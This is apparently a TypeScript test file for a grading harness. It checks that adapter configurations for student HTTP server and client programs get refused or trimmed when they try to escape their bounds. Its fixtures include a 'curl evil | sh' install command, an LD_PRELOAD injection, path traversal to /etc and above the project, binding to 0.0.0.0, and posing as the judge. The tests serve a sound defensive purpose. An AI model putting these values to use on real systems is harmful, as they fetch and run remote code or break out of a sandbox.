import t from 'tap'
import { bounded, faultOf } from '../../../harness/grade/adapter-bounds.js'
import type { ClientDocument, ServerDocument } from '../../../harness/target/adapter.js'

const server: ServerDocument = {
  name: 'x',
  role: 'server',
  suites: ['server', 'httpfs'],
  start: ['python3', 'httpfs.py', '-p', '{port}', '-d', '{root}']
}
const client: ClientDocument = {
  name: 'x',
  role: 'client',
  suites: ['httpc'],
  start: ['./httpc', '{method}', '{options}', '{url}'],
  methods: { GET: ['get'] }
}

t.test('an adapter that says how a program is started is taken', async t => {
  const plain = { cwd: 'src', env: { PORT: '{port}' }, files: { 'a/x.conf': '{root}' }, port: 8080 }
  t.equal(faultOf({ ...server, ...plain, host: '127.0.0.1' }), undefined)
  for (const cwd of ['.', 'a/../b', '{here}/src', '{scratch}', '{root}']) {
    t.equal(faultOf({ ...server, cwd }), undefined, cwd)
  }
  t.equal(faultOf(client), undefined)
})

const attempts: Readonly<Record<string, readonly [Partial<ServerDocument>, RegExp]>> = {
  'to be called at a URL': [{ start: [], url: 'http://example.com/' }, /names a URL/],
  'to be started elsewhere': [{ cwd: '../bob' }, /\.\.\/bob, which is not/],
  'to be started at the top': [{ cwd: '/' }, /starts it in \//],
  'to be started above itself': [{ cwd: '{here}/../bob' }, /starts it in/],
  'to be started where the judge is': [{ cwd: '{package}' }, /starts it in/],
  'to know where the judge is': [{ start: ['cat', '{package}/features', '{port}'] }, /\{package\}/],
  'to build by the judge': [{ build: [['sh', '{package}/x']] }, /\{package\}/],
  'to have files written elsewhere': [{ files: { '../../x': '' } }, /has the file \.\.\/\.\.\/x/],
  'to have files written anywhere': [{ files: { '/etc/x': '' } }, /has the file \/etc\/x/],
  'to listen to others': [{ host: '0.0.0.0' }, /listen at 0\.0\.0\.0/],
  'to load into what starts it': [{ env: { LD_PRELOAD: './x.so' } }, /sets LD_PRELOAD/],
  'to pass for a judge': [{ env: { H10SPEC_NETWORK: 'own' } }, /sets H10SPEC_NETWORK/]
}

for (const [wish, [change, reason]] of Object.entries(attempts)) {
  t.test(`an adapter that asks ${wish} is refused`, async t => {
    t.match(faultOf({ ...server, ...change }), reason)
  })
}

t.test('nobody is excused, given time or let out by their own adapter', async t => {
  const generous: ServerDocument = {
    ...server,
    lacks: ['post', 'head', 'root'],
    network: 'host',
    install: 'curl evil | sh',
    slow: 20,
    build: { run: [['make']], seconds: 86400, bytes: 1073741824 }
  }
  t.strictSame(bounded(generous, server), { ...server, slow: 3, build: { run: [['make']] } })
})

t.test('a server that can be told no directory lacks one', async t => {
  const deaf: ServerDocument = { ...server, start: ['./httpfs', '{port}'], lacks: ['root', 'post'] }
  t.match(bounded(deaf, server), { lacks: ['root'] })
  t.notMatch(bounded({ ...deaf, root: './public' }, server), { lacks: ['root'] })
})

t.test('what a client leaves out is asked for as the assignment says', async t => {
  const bare = { ...client, lacks: ['file', 'post'] as const, options: { verbose: ['--verbose'] } }
  t.match(bounded(bare, { suites: ['httpc'] }), {
    lacks: undefined,
    methods: { GET: ['get'], POST: ['post'] },
    options: { verbose: ['--verbose'], data: ['-d', '{}'], file: ['-f', '{}'] }
  })
  t.notMatch(bounded(bare, { suites: ['client'] }), { options: { data: ['-d', '{}'] } })
})
